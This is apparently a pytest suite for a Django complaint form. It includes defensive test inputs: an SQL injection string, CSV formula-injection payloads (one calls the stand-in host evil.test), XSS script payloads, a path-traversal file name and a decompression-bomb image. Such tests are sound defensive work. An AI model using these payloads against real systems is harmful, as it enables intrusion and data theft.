"""The guided form, step by step, with everything that goes wrong on the way: refused clearly, and nothing is lost."""

from __future__ import annotations

import re
import time
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from brands.models import IPRight
from complaints import preflight
from complaints.models import Complaint, Evidence, Signature
from portal.accounts.actors import PUBLIC
from portal.accounts.models import Membership, Role
from portal.files.models import StoredFile
from portal.ledger.models import Event, OutboxMessage
from portal.marketplace.models import Target
from tests.accounts.factories import make_member
from tests.accounts.factories import signed_in as _signed_in
from tests.complaints.factories import EU_TEXT, make_listing, make_right, make_seller, png
from tests.files.factories import png_of_size

pytestmark = pytest.mark.django_db
STEPS = ("right", "reason", "items", "evidence", "declarations", "review")


def signed_in(client: Client, user: Any, **how: Any) -> Any:
    """A signed-in client whose answers are read without types."""
    return _signed_in(client, user, **how)


WORDS = "It copies the logo that we sew on the chest."


@dataclass
class Desk:
    """A signed-in rights owner with a right, two offers, and the form in hand."""

    client: Client
    membership: Membership
    right: IPRight
    targets: list[Target]

    @property
    def draft(self) -> Complaint:
        return Complaint.objects.get()

    def at(self, step: str) -> str:
        return reverse(f"complaints:draft-{step}", args=[self.draft.public_id])

    def get(self, step: str) -> Any:
        return self.client.get(self.at(step))

    def post(self, step: str, data: dict[str, Any] | None = None, **extra: Any) -> Any:
        return self.client.post(self.at(step), data or {}, **extra)

    def begin(self) -> Any:
        return self.client.post(reverse("complaints:new"), {"right": str(self.right.public_id)})

    def fill(self) -> None:
        self.begin()
        self.post("reason", {"reason": "counterfeit", "explanation": "Copies our chest logo."})
        self.post("items", {"lines": "\n".join(target.url for target in self.targets)})

    def sign(self, **changes: str) -> Any:
        name = self.membership.user.name
        boxes = {f"say_{line.id}": "on" for line in EU_TEXT.lines}
        data = {**boxes, "typed_name": name, "version": EU_TEXT.version, "sha256": EU_TEXT.sha256}
        return self.post("declarations", data | changes)


@pytest.fixture
def desk(client: Client) -> Desk:
    membership = make_member(role=Role.RIGHTS_OWNER)
    seller = make_seller()
    right = make_right(membership.organisation)
    return Desk(signed_in(client, membership.user), membership, right, [make_listing(seller), make_listing(seller)])


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


def text_of(answer: Any) -> str:
    return str(answer.content.decode())


def test_the_whole_form_leads_to_one_filed_complaint(desk: Desk) -> None:
    assert desk.client.get(reverse("complaints:new")).status_code == 200
    assert not Complaint.objects.exists(), "opening the form makes no draft"
    assert desk.begin().url == desk.at("reason")
    assert desk.post("reason", {"reason": "counterfeit", "explanation": WORDS}).url == desk.at("items")
    assert desk.post("items", {"lines": desk.targets[0].url}).url == desk.at("evidence")
    shown = desk.post("evidence", {"file": upload("proof.png", png()), "caption": "Front", "add": "1"})
    assert shown.url == desk.at("evidence")
    assert "proof.png" in text_of(desk.get("evidence"))
    assert desk.post("evidence").url == desk.at("declarations")
    assert desk.sign().url == desk.at("review")
    assert "Submit 1 item" in text_of(desk.get("review"))
    filed = desk.post("review")
    assert filed.url == reverse("complaints:detail", args=[desk.draft.public_id])
    assert desk.draft.state == "queued"
    assert desk.draft.signature.strength == "password"
    page = text_of(desk.client.get(filed.url))
    assert desk.draft.reference in page
    assert "proof.png" in page


def test_each_step_is_kept_when_the_connection_is_lost_after_it(desk: Desk, client: Client) -> None:
    desk.fill()
    again = signed_in(Client(), desk.membership.user)  # another device, a new session
    assert str(desk.right.public_id) in text_of(again.get(desk.at("right")))
    assert "Copies our chest logo." in text_of(again.get(desk.at("reason")))
    assert desk.targets[1].url in text_of(again.get(desk.at("items")))
    assert desk.at("items") in text_of(again.get(reverse("complaints:dashboard")))


@pytest.mark.parametrize("step", ["reason", "items"])
def test_a_half_typed_step_is_saved_while_it_is_typed(desk: Desk, step: str) -> None:
    desk.begin()
    htmx = {"HTTP_HX_REQUEST": "true"}
    if step == "reason":
        answer = desk.post("reason", {"explanation": "Half a sent"}, **htmx)
        assert desk.draft.explanation == "Half a sent"
        assert desk.draft.reason == ""
    else:
        answer = desk.post("items", {"lines": "LS-"}, **htmx)
        assert desk.draft.lines == "LS-"
    assert answer.status_code == 200
    assert "<html" not in text_of(answer)


def test_save_and_leave_keeps_what_was_typed_and_leads_to_the_dashboard(desk: Desk) -> None:
    desk.begin()
    data = {"reason": "counterfeit", "explanation": "Later more.", "leave": "1"}
    assert desk.post("reason", data).url == reverse("complaints:dashboard")
    assert desk.draft.explanation == "Later more."
    assert desk.post("items", {"lines": "not a link yet", "leave": "1"}).url == reverse("complaints:dashboard")
    assert desk.draft.lines == "not a link yet"


def test_leaving_the_reason_step_before_a_reason_is_chosen_keeps_the_words(desk: Desk) -> None:
    desk.begin()
    answer = desk.post("reason", {"explanation": "No reason yet.", "leave": "1"})
    assert desk.draft.explanation == "No reason yet."
    assert answer.url == reverse("complaints:dashboard")


def test_a_refused_step_shows_again_what_was_typed(desk: Desk) -> None:
    desk.begin()
    answer = desk.post("reason", {"reason": "price", "explanation": "They undercut us everywhere."})
    assert answer.status_code == 422
    assert "They undercut us everywhere." in text_of(answer)


# --- submitting


def test_submitting_twice_makes_one_complaint_and_one_acknowledgement(desk: Desk) -> None:
    desk.fill()
    desk.sign()
    first, second = desk.post("review"), desk.post("review")
    assert first.url == second.url
    assert Complaint.objects.count() == 1
    assert Signature.objects.count() == 1
    assert Event.objects.filter(kind="complaint.submitted").count() == 1
    assert desk.draft.items.count() == 2


def test_nothing_is_sent_without_a_signature(desk: Desk) -> None:
    desk.fill()
    assert desk.post("review").url == desk.at("declarations")
    assert desk.draft.is_draft
    assert not Event.objects.filter(stream_kind="complaint").exists()


CHANGES = {
    "right": lambda desk: desk.post("right", {"right": str(make_right(desk.membership.organisation).public_id)}),
    "reason": lambda desk: desk.post("reason", {"reason": "similar_sign", "explanation": WORDS}),
    "typing": lambda desk: desk.post("reason", {"explanation": WORDS}, HTTP_HX_REQUEST="true"),
    "items": lambda desk: desk.post("items", {"lines": desk.targets[0].url}),
    "evidence added": lambda desk: desk.post("evidence", {"file": upload("late.png", png()), "caption": ""}),
    "evidence removed": lambda desk: desk.client.post(
        reverse("complaints:remove-evidence", args=[desk.draft.public_id, Evidence.objects.get().public_id])
    ),
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_draft_that_changed_after_the_signature_must_be_signed_again(desk: Desk, change: str) -> None:
    desk.fill()
    desk.post("evidence", {"file": upload("early.png", png("red")), "caption": ""})
    desk.sign()
    CHANGES[change](desk)
    assert "Not signed for this version yet" in text_of(desk.get("review"))
    assert desk.post("review").url == desk.at("declarations")
    assert desk.draft.is_draft
    desk.sign()
    desk.post("review")
    assert not desk.draft.is_draft


def test_a_teammates_change_after_the_signature_is_not_filed_in_the_signers_name(desk: Desk) -> None:
    desk.fill()
    desk.sign()
    teammate = signed_in(Client(), make_member(desk.membership.organisation, Role.AGENT).user)
    teammate.post(desk.at("reason"), {"reason": "similar_sign", "explanation": "I know better."})
    assert desk.post("review").url == desk.at("declarations")
    assert desk.draft.is_draft


def test_one_persons_signature_does_not_serve_another(desk: Desk) -> None:
    desk.fill()
    desk.sign()
    teammate = signed_in(Client(), make_member(desk.membership.organisation, Role.AGENT).user)
    assert teammate.post(desk.at("review")).url == desk.at("declarations")
    assert desk.draft.is_draft


def test_a_signature_is_good_for_half_an_hour(desk: Desk) -> None:
    desk.fill()
    desk.sign()
    with time_machine.travel(timezone.now() + timedelta(minutes=31)):
        assert desk.post("review").url == desk.at("declarations")
    assert desk.draft.is_draft


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"typed_name": "Somebody Else"}, "Your account carries the name"),
        ({"typed_name": ""}, "required"),
        ({"version": "1999-01-01"}, "The declaration has changed"),
        ({"sha256": "0" * 64}, "The declaration has changed"),
        ({f"say_{EU_TEXT.lines[0].id}": ""}, "required"),
    ],
)
def test_a_signature_that_does_not_hold_is_refused_with_the_reason(
    desk: Desk, changes: dict[str, str], says: str
) -> None:
    desk.fill()
    answer = desk.sign(**changes)
    assert answer.status_code == 422
    assert says in text_of(answer)
    assert desk.post("review").url == desk.at("declarations")


def test_signing_asks_for_a_fresh_sign_in_and_leads_back(desk: Desk) -> None:
    desk.fill()
    stale = signed_in(Client(), desk.membership.user, fresh=False)
    shown, posted = stale.get(desk.at("declarations")), stale.post(desk.at("declarations"), {"agree": "on"})
    for answer in (shown, posted):
        assert answer.status_code == 302
        assert reverse("account_reauthenticate") in answer.url
        assert desk.at("declarations") in answer.url.replace("%2F", "/")


def test_an_item_that_went_away_between_signing_and_submitting_stops_with_a_reason(desk: Desk) -> None:
    desk.targets = desk.targets[:1]
    desk.fill()
    desk.sign()
    Target.objects.filter(pk=desk.targets[0].pk).update(state="removed")
    answer = desk.post("review")
    assert answer.status_code == 422
    assert "No item is ready" in text_of(answer)
    assert desk.draft.is_draft
    assert desk.draft.lines


# --- what cannot be used


@pytest.mark.parametrize(
    ("code", "says"),
    [("price", "cheaply"), ("unauthorised_seller", "resold without your leave"), ("distribution", "agreement binds")],
)
def test_a_reason_that_is_no_ip_reason_is_refused_with_an_explanation(desk: Desk, code: str, says: str) -> None:
    desk.begin()
    answer = desk.post("reason", {"reason": code, "explanation": ""})
    assert answer.status_code == 422
    assert says in text_of(answer)
    assert desk.draft.reason == ""


@pytest.mark.parametrize(
    ("fields", "says"),
    [
        ({"state": "in_review", "verified_at": None}, "desk"),
        ({"expiry_date": timezone.now().date() - timedelta(days=400)}, "expired"),
    ],
)
def test_a_right_that_cannot_be_used_is_listed_with_the_reason_and_refused(
    desk: Desk, fields: dict[str, Any], says: str
) -> None:
    other = make_right(desk.membership.organisation, text="NORDVIK", **fields)
    page = text_of(desk.client.get(reverse("complaints:new")))
    assert "Not usable yet, and why" in page
    assert says in page
    assert f'value="{other.public_id}"' not in page
    assert desk.client.post(reverse("complaints:new"), {"right": str(other.public_id)}).status_code in {200, 422}
    assert not Complaint.objects.exists()


@pytest.mark.parametrize("value", ["", "x", "00000000-0000-4000-8000-000000000000", "\x00", "' OR 1=1 --"])
def test_a_right_that_is_none_is_refused_and_makes_no_draft(desk: Desk, value: str) -> None:
    answer = desk.client.post(reverse("complaints:new"), {"right": value})
    assert answer.status_code in {200, 422}
    assert not Complaint.objects.exists()


def test_another_organisations_right_is_refused_as_if_it_did_not_exist(desk: Desk) -> None:
    foreign = make_right(make_member().organisation)
    absent = "00000000-0000-4000-8000-000000000000"
    first = text_of(desk.client.post(reverse("complaints:new"), {"right": str(foreign.public_id)}))
    second = text_of(desk.client.post(reverse("complaints:new"), {"right": absent}))
    assert first.count("errorlist") == second.count("errorlist")
    assert "TARNFELL" in first  # our own is still offered
    assert str(foreign.public_id) not in first.replace(str(foreign.public_id), "", 1)
    assert not Complaint.objects.exists()
    desk.begin()
    desk.post("right", {"right": str(foreign.public_id)})
    assert desk.draft.right == desk.right


def test_an_explanation_that_is_too_long_is_refused_and_kept_on_the_page(desk: Desk) -> None:
    desk.begin()
    answer = desk.post("reason", {"reason": "counterfeit", "explanation": "x" * 5001})
    assert answer.status_code == 422
    assert "x" * 5001 in text_of(answer)
    typed = desk.post("reason", {"explanation": "x" * 5001}, HTTP_HX_REQUEST="true")
    assert "Not saved" in text_of(typed)


@pytest.mark.parametrize("text", ["\x00zero", "𝕿𝖆𝖗𝖓𝖋𝖊𝖑𝖑 \U0001f9e5", "‮gnp.exe", "=cmd|' /C calc'!A0", "\ud7ff\ufeff"])
def test_odd_text_is_kept_without_harm(desk: Desk, text: str) -> None:
    desk.begin()
    answer = desk.post("reason", {"reason": "counterfeit", "explanation": text})
    assert answer.status_code in {302, 422}
    desk.post("items", {"lines": text})
    assert desk.get("items").status_code == 200
    assert desk.get("review").status_code == 200


# --- items as CSV


def items(desk: Desk, data: bytes, lines: str = "") -> Any:
    return desk.post("items", {"lines": lines, "csv": upload("items.csv", data)})


def test_a_csv_is_added_below_what_was_pasted(desk: Desk) -> None:
    desk.begin()
    first, second = desk.targets
    answer = items(desk, f"id;note\r\n{second.marketplace_id};x\r\n".encode(), lines=first.url)
    assert answer.status_code == 302
    assert desk.draft.lines.splitlines() == [first.url, f"{second.marketplace_id} | x"]


def test_a_byte_order_mark_does_no_harm(desk: Desk) -> None:
    desk.begin()
    items(desk, b"\xef\xbb\xbf" + f"link\n{desk.targets[0].url}\n".encode())
    assert desk.draft.lines == desk.targets[0].url


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"article,price\nLS-1,2\n", "must name a column target, link, url or id"),
        (b"link\n" + b"LS-10000001\n" * 40_000, " characters; 400000 fit"),
        (b"", "empty"),
        (b"link\n", "no lines"),
        (b"\x89PNG\r\n\x1a\n" + b"\xff" * 50, "not a CSV file"),
    ],
)
def test_a_csv_that_cannot_be_used_is_refused_and_what_was_pasted_is_kept(desk: Desk, data: bytes, says: str) -> None:
    desk.begin()
    answer = items(desk, data, lines=desk.targets[0].url)
    assert answer.status_code == 422
    assert says in text_of(answer)
    assert desk.draft.lines == desk.targets[0].url
    assert desk.targets[0].url in text_of(answer)


def test_a_formula_in_a_csv_is_a_line_to_correct_and_never_more(desk: Desk) -> None:
    desk.begin()
    items(desk, b'id\n=HYPERLINK("http://evil.test"&A1)\n@SUM(1+1)\n')
    page = text_of(desk.get("items"))
    assert "=HYPERLINK" in page
    assert 'href="http://evil.test' not in page
    assert "2 to correct" in page


def test_10000_pasted_lines_are_refused_with_the_number_and_kept(desk: Desk) -> None:
    desk.begin()
    desk.post("items", {"lines": "\n".join([desk.targets[0].url, *(f"LS-{n:08d}" for n in range(9_999))])})
    page = text_of(desk.get("items"))
    assert "10000 lines" in page
    assert desk.draft.lines.count("\n") == 9_999
    desk.post("reason", {"reason": "counterfeit", "explanation": ""})
    desk.sign()
    assert desk.post("review").status_code == 422
    assert desk.draft.is_draft


def test_far_too_many_lines_are_answered_quickly(desk: Desk) -> None:
    """Ids that look nearly right are the costly ones: they are compared with what there is."""
    lines = [f"LS-{n:08d}" for n in range(20_000)]
    began = time.perf_counter()
    answers = preflight.answer(lines, right=desk.right, actor=PUBLIC, reason="", today=timezone.now().date())
    assert time.perf_counter() - began < 5
    assert len(answers) == 20_000
    assert {line.code for line in answers[500:]} == {"too_many"}


def test_lines_beyond_what_a_draft_holds_are_refused_and_stay_on_the_page(desk: Desk) -> None:
    desk.begin()
    answer = desk.post("items", {"lines": "x" * 400_001})
    assert answer.status_code == 422
    assert "400001 characters" in text_of(answer)
    assert "x" * 400_001 in text_of(answer)


def test_lines_that_need_a_correction_keep_the_reader_on_the_step(desk: Desk) -> None:
    desk.begin()
    answer = desk.post("items", {"lines": f"{desk.targets[0].url}\nLS-99999999"})
    assert answer.url == desk.at("items") + "#line-2"
    page = text_of(desk.get("items"))
    assert "1 goes into the complaint, 0 left out, 1 to correct" in page


# --- evidence


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("proof.png", b"<html><script>alert(1)</script></html>"),
        ("proof.pdf", b"GIF89a<script>alert(1)</script>"),
        ("proof.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("proof.png", b"MZ\x90\x00" + b"\0" * 100),
        ("proof.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 20),
        ("bomb.png", png_of_size(13_340, 13_340)),
        ("wide.png", png_of_size(1_000_000, 1)),
        ("empty.png", b""),
    ],
)
def test_a_disguised_or_exploding_file_is_refused_at_its_field_and_not_kept(desk: Desk, name: str, data: bytes) -> None:
    desk.fill()
    kept = StoredFile.objects.count()
    answer = desk.post("evidence", {"file": upload(name, data), "caption": "Look", "add": "1"})
    assert answer.status_code == 422
    assert "id_file_err" in text_of(answer) or "err" in text_of(answer)
    assert "Look" in text_of(answer), "the caption is kept"
    assert not Evidence.objects.exists()
    assert StoredFile.objects.count() == kept


def test_a_hostile_file_name_is_harmless(desk: Desk) -> None:
    desk.fill()
    name = "../../\u202egnp.<img src=x onerror=alert(1)>.png"
    desk.post("evidence", {"file": upload(name, png()), "caption": "<b>bold</b>", "add": "1"})
    page = text_of(desk.get("evidence"))
    assert "<img src=x" not in page
    assert "<b>bold</b>" not in page
    kept = Evidence.objects.get().file
    assert ".." not in kept.clean_file.name
    served = desk.client.get(
        reverse("complaints:evidence-file", args=[desk.draft.public_id, Evidence.objects.get().public_id])
    )
    assert served["Content-Disposition"].startswith("attachment")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]
    assert "\u202e" not in served["Content-Disposition"]


def test_the_21st_file_is_refused(desk: Desk) -> None:
    desk.fill()
    for number in range(21):
        answer = desk.post("evidence", {"file": upload(f"{number}.png", png()), "caption": "", "add": "1"})
    assert answer.status_code == 422
    assert "20 files" in text_of(answer)
    assert Evidence.objects.count() == 20


def test_evidence_of_another_draft_cannot_be_removed_through_ones_own(desk: Desk) -> None:
    desk.fill()
    mine = desk.draft
    other = Desk(
        signed_in(Client(), (them := make_member(role=Role.AGENT)).user), them, make_right(them.organisation), []
    )
    other.begin()
    theirs = Complaint.objects.exclude(pk=mine.pk).get()
    other.client.post(
        reverse("complaints:draft-evidence", args=[theirs.public_id]), {"file": upload("x.png", png()), "caption": ""}
    )
    file = theirs.evidence.get()
    desk.client.post(reverse("complaints:remove-evidence", args=[mine.public_id, file.public_id]))
    assert theirs.evidence.count() == 1
    nested = desk.client.get(reverse("complaints:evidence-file", args=[mine.public_id, file.public_id]))
    assert nested.status_code == 404


# --- who may


@pytest.mark.parametrize("step", STEPS)
def test_a_viewer_is_led_away_from_every_step_and_changes_nothing(desk: Desk, step: str) -> None:
    desk.fill()
    before = Complaint.objects.values().get()
    viewer = signed_in(Client(), make_member(desk.membership.organisation, Role.VIEWER).user)
    data = {"reason": "similar_sign", "lines": "", "right": "", "typed_name": "x"}
    for answer in (viewer.get(desk.at(step)), viewer.post(desk.at(step), data)):
        assert answer.status_code == 302
        assert answer.url == reverse("complaints:list")
    viewer.post(reverse("complaints:discard", args=[desk.draft.public_id]))
    assert Complaint.objects.values().get() == before


@pytest.mark.parametrize("step", STEPS)
def test_the_steps_of_a_filed_complaint_lead_to_the_case_and_change_nothing(desk: Desk, step: str) -> None:
    desk.fill()
    desk.sign()
    desk.post("review")
    before, waiting = Complaint.objects.values().get(), OutboxMessage.objects.count()
    data = {"reason": "similar_sign", "lines": "", "right": str(desk.right.public_id)}
    for answer in (desk.get(step), desk.post(step, data)):
        assert answer.url == reverse("complaints:detail", args=[desk.draft.public_id])
    desk.client.post(reverse("complaints:discard", args=[desk.draft.public_id]))
    assert Complaint.objects.values().get() == before
    assert OutboxMessage.objects.count() == waiting


def test_fields_that_nobody_asked_for_are_never_stored(desk: Desk) -> None:
    desk.begin()
    desk.post(
        "reason",
        {
            "reason": "counterfeit",
            "explanation": "x",
            "state": "accepted",
            "organisation": "1",
            "decided_at": "2026-01-01",
            "reference": "RD-1",
            "claimed_by": "1",
        },
    )
    kept = desk.draft
    assert (kept.state, kept.reference, kept.decided_at, kept.claimed_by) == ("draft", None, None, None)
    assert kept.organisation == desk.membership.organisation


def test_a_discarded_draft_is_gone_and_leaves_no_event(desk: Desk) -> None:
    desk.fill()
    desk.post("evidence", {"file": upload("x.png", png()), "caption": ""})
    address = desk.at("review")
    desk.client.post(reverse("complaints:discard", args=[desk.draft.public_id]))
    assert not Complaint.objects.exists()
    assert desk.client.get(address).status_code == 404
    assert not Event.objects.filter(stream_kind="complaint").exists()


def test_the_form_needs_its_token(desk: Desk) -> None:
    strict = signed_in(Client(enforce_csrf_checks=True), desk.membership.user)
    assert strict.post(reverse("complaints:new"), {"right": str(desk.right.public_id)}).status_code == 403
    assert not Complaint.objects.exists()


# --- two tabs on one draft


def version_in(answer: Any) -> str:
    found = re.search(r'name="version"[^>]* value="(\d+)"', text_of(answer))
    assert found is not None
    return found[1]


def test_two_tabs_on_one_draft_do_not_overwrite_each_other(desk: Desk) -> None:
    desk.fill()
    opened = {step: version_in(desk.get(step)) for step in ("right", "reason", "items")}
    desk.post("reason", {"reason": "counterfeit", "explanation": "From the other tab.", "version": opened["reason"]})
    other = make_right(desk.membership.organisation)
    mine: dict[str, dict[str, str]] = {
        "right": {"right": str(other.public_id)},
        "reason": {"reason": "counterfeit", "explanation": "From this tab."},
        "items": {"lines": desk.targets[0].url},
    }
    for step, typed in mine.items():
        answer = desk.post(step, typed | {"version": opened[step]})
        assert answer.status_code == 409, step
        assert "This has changed since you opened it" in text_of(answer)
        assert "What is saved now" in text_of(answer)
        assert all(words in text_of(answer) for words in typed.values())
    assert (desk.draft.explanation, desk.draft.right_id) == ("From the other tab.", desk.right.pk)
    assert desk.draft.lines.count("\n") == 1
    shown = desk.post("reason", mine["reason"] | {"version": opened["reason"]})
    assert "From the other tab." in text_of(shown)
    desk.post("reason", mine["reason"] | {"version": version_in(shown)})
    assert desk.draft.explanation == "From this tab.", "whoever has seen the conflict may save over it"


def test_an_autosave_does_not_overwrite_and_gives_the_next_one_its_version(desk: Desk) -> None:
    desk.fill()
    old, htmx = version_in(desk.get("reason")), {"HTTP_HX_REQUEST": "true"}
    first = desk.post("reason", {"reason": "counterfeit", "explanation": "One.", "version": old}, **htmx)
    assert first.status_code == 200 and "hx-swap-oob" in text_of(first)
    again = {"reason": "counterfeit", "explanation": "One, two.", "version": version_in(first)}
    assert desk.post("reason", again, **htmx).status_code == 200
    for step, typed in (("reason", {"explanation": "Late."}), ("items", {"lines": "LS-9"})):
        late = desk.post(step, typed | {"version": old}, **htmx)
        assert (late.status_code, late["HX-Retarget"]) == (409, "#saved")
        assert "This has changed since you opened it" in text_of(late)
        assert 'name="version"' not in text_of(late)
    assert desk.draft.explanation == "One, two." and "LS-9" not in desk.draft.lines
    checked = desk.post("items", {"lines": "LS-9", "version": str(desk.draft.version)}, **htmx)
    assert version_in(checked) == str(desk.draft.version)


def test_saving_what_is_there_already_is_no_conflict(desk: Desk) -> None:
    desk.fill()
    typed = {"reason": "counterfeit", "explanation": "Once.", "version": str(desk.draft.version)}
    for _again in range(2):
        assert desk.post("reason", typed).url == desk.at("items")
    assert desk.draft.version == int(typed["version"]) + 1
